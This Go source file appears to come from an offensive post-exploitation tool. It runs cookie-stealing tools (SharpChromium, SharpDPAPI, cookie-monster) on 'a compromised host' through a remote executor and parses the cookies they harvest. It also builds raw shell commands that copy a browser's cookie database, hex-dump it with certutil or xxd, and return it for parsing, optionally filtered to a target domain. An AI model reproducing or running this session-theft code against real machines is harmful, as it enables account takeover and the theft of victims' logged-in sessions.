package extract

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"

	"sessionops/internal/logging"
	"sessionops/internal/profile"
)

var (
	// ErrUnknownMethod is returned for a method outside the supported set.
	ErrUnknownMethod = errors.New("unknown extraction method")
	// ErrRemoteExecution wraps any failure reported by the executor.
	ErrRemoteExecution = errors.New("remote execution failed")
)

// DefaultTimeout bounds a remote extraction when the request sets none.
const DefaultTimeout = 300 * time.Second

// Task is one unit of work for the remote-execution collaborator. When
// Assembly is set the executor runs it in-process with Args; otherwise
// Command is run through the host's shell.
type Task struct {
	Host     string
	Command  string
	Assembly string
	Args     string
	Timeout  time.Duration
}

// Output is the captured result of a Task.
type Output struct {
	Stdout string
	Stderr string
}

// Combined returns stdout followed by stderr.
func (o Output) Combined() string {
	return o.Stdout + o.Stderr
}

// RemoteExecutor runs commands or assemblies on a compromised host.
type RemoteExecutor interface {
	Execute(ctx context.Context, task Task) (Output, error)
}

// Request describes one extraction run.
type Request struct {
	Host         string
	OS           profile.OS
	Browser      profile.Browser
	Method       Method
	TargetDomain string
	AssemblyPath string
	Timeout      time.Duration
}

type methodSpec struct {
	build func(r Request, assembly string) Task
	parse lineParser
}

var methods = map[Method]methodSpec{
	MethodSharpChromium: {build: sharpChromiumTask, parse: parseBlocks},
	MethodSharpDPAPI:    {build: sharpDPAPITask, parse: parseBlocks},
	MethodCookieMonster: {build: cookieMonsterTask, parse: parseKeyValue},
	MethodManualShell:   {build: manualShellTask, parse: parseColumns},
}

var defaultAssemblies = map[Method]string{
	MethodSharpChromium: "SharpChromium.exe",
	MethodSharpDPAPI:    "SharpDPAPI.exe",
}

// Extractor drives extraction tools through a RemoteExecutor.
type Extractor struct {
	exec           RemoteExecutor
	defaultTimeout time.Duration
	assemblies     map[Method]string
}

// Option configures an Extractor.
type Option func(*Extractor)

// WithDefaultTimeout overrides DefaultTimeout.
func WithDefaultTimeout(d time.Duration) Option {
	return func(e *Extractor) {
		if d > 0 {
			e.defaultTimeout = d
		}
	}
}

// WithAssembly sets the assembly path used for method when a request does
// not name one.
func WithAssembly(m Method, path string) Option {
	return func(e *Extractor) {
		if path != "" {
			e.assemblies[m] = path
		}
	}
}

// New creates an Extractor.
func New(exec RemoteExecutor, opts ...Option) *Extractor {
	e := &Extractor{
		exec:           exec,
		defaultTimeout: DefaultTimeout,
		assemblies:     make(map[Method]string, len(defaultAssemblies)),
	}
	for m, p := range defaultAssemblies {
		e.assemblies[m] = p
	}
	for _, opt := range opts {
		opt(e)
	}
	return e
}

// Command returns the task Extract would run for r without running it.
func (e *Extractor) Command(r Request) (Task, error) {
	spec, ok := methods[r.Method]
	if !ok {
		return Task{}, fmt.Errorf("%w: %q", ErrUnknownMethod, r.Method)
	}
	assembly := r.AssemblyPath
	if assembly == "" {
		assembly = e.assemblies[r.Method]
	}
	task := spec.build(r, assembly)
	task.Host = r.Host
	task.Timeout = r.Timeout
	if task.Timeout <= 0 {
		task.Timeout = e.defaultTimeout
	}
	return task, nil
}

// Extract runs the tool for r.Method on r.Host and parses what it printed.
func (e *Extractor) Extract(ctx context.Context, r Request) (Result, error) {
	timer := logging.StartTimer(logging.CategoryExtract, "Extract "+string(r.Method))
	defer timer.Stop()

	task, err := e.Command(r)
	if err != nil {
		return Result{}, err
	}

	logging.Extract("Running %s against %s (browser=%s, target=%q)", r.Method, r.Host, r.Browser, r.TargetDomain)
	out, err := e.exec.Execute(ctx, task)
	if err != nil {
		logging.ExtractError("%s on %s failed: %v", r.Method, r.Host, err)
		return Result{}, fmt.Errorf("%w: %s on %s: %w", ErrRemoteExecution, r.Method, r.Host, err)
	}

	res, err := ParseOutput(r.Method, out.Combined(), r.TargetDomain)
	if err != nil {
		return Result{}, err
	}
	logging.Extract("%s on %s yielded %d cookies from %d bytes", r.Method, r.Host, res.Count, len(res.RawOutput))
	return res, nil
}

func sharpChromiumTask(r Request, assembly string) Task {
	args := "cookies"
	if r.TargetDomain != "" {
		args += " /domain:" + r.TargetDomain
	}
	if r.Browser == profile.Edge {
		args += " /edge"
	}
	return Task{Assembly: assembly, Args: args}
}

func sharpDPAPITask(r Request, assembly string) Task {
	args := "cookies"
	if r.Browser == profile.Edge {
		args += " /browser:edge"
	}
	if r.TargetDomain != "" {
		args += " /target:" + r.TargetDomain
	}
	return Task{Assembly: assembly, Args: args}
}

func cookieMonsterTask(r Request, _ string) Task {
	args := "/chrome"
	if r.Browser == profile.Edge {
		args = "/edge"
	}
	if r.TargetDomain != "" {
		args += " /url:" + r.TargetDomain
	}
	return Task{Command: "cookie-monster " + args}
}

func manualShellTask(r Request, _ string) Task {
	paths, _ := profile.Lookup(r.OS, r.Browser)

	if r.OS == profile.Windows {
		return Task{Command: fmt.Sprintf(
			`copy "%s\Default\%s" "%%TEMP%%\cookies_dump" /Y && `+
				`certutil -encodehex "%%TEMP%%\cookies_dump" "%%TEMP%%\cookies_hex.txt" 0 && `+
				`type "%%TEMP%%\cookies_hex.txt"`,
			paths.ProfileBase, paths.CookieFile)}
	}

	base := paths.ProfileBase
	if strings.HasPrefix(base, "~/") {
		base = "$HOME/" + strings.TrimPrefix(base, "~/")
	}
	return Task{Command: fmt.Sprintf(`cp "%s/Default/%s" /tmp/cookies_dump && xxd /tmp/cookies_dump`, base, paths.CookieFile)}
}
